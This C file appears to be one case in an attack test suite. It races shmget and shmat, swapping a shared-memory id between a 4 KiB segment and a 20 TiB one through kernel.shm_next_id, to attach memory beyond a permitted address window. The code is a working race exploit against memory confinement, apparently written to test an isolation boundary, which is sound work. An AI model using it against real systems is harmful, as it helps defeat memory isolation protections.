// shmat(2) of an id that belongs to a small segment when its size is asked for, and to one of many TiB when
// it is attached. The id is given again through kernel.shm_next_id, for which this row has the rights;
// without them it takes some million segments.
#include "attack.h"
#include <pthread.h>
#include <sys/ipc.h>
#include <sys/shm.h>

#define BIG (20UL << 40) // from the window to above the tables, and below the end of all addresses
static volatile int id = -1, stop;

static int make(size_t size, int want) {
    char text[16];
    if (want >= 0) {
        int fd = open("/proc/sys/kernel/shm_next_id", O_WRONLY);
        int n = snprintf(text, sizeof text, "%d", want);
        if (fd < 0 || write(fd, text, (size_t)n) != n)
            attack_broken("kernel.shm_next_id");
        close(fd);
    }
    return shmget(IPC_PRIVATE, size, IPC_CREAT | 0600 | SHM_NORESERVE);
}

static void *turn(void *unused) {
    (void)unused;
    int mine = id;
    for (int big = 1; !stop; big = !big) {
        shmctl(mine, IPC_RMID, NULL);
        int next = make(big ? BIG : 4096, mine);
        if (next >= 0)
            id = mine = next;
        else
            big = !big;
    }
    return NULL;
}

// Long calls under the lock of the address space: they hold up an attachment between its steps.
static void *hold_up(void *unused) {
    (void)unused;
    while (!stop) {
        void *p =
            mmap(NULL, 48UL << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
        munmap(p, 48UL << 20);
    }
    return NULL;
}

int main(void) {
    pthread_t thread, holder;
    attack_check_native();
    id = make(4096, -1);
    if (id < 0 || pthread_create(&thread, NULL, turn, NULL) || pthread_create(&holder, NULL, hold_up, NULL))
        attack_broken("a segment and a thread");
    char *high = (char *)(ATTACK_WINDOW_END - (1UL << 40));
    for (unsigned n = 0; !attack_over(); n++) {
        char *p = shmat(id, n & 1 ? high : NULL, n & 2 ? SHM_REMAP * (n & 1) : 0);
        if (p == (void *)-1)
            continue;
        if ((unsigned long)p >= ATTACK_WINDOW_END)
            attack_won("a segment was attached at %p", (void *)p);
        shmdt(p);
    }
    stop = 1;
    pthread_join(thread, NULL);
    pthread_join(holder, NULL);
    shmctl(id, IPC_RMID, NULL);
    attack_lost();
}
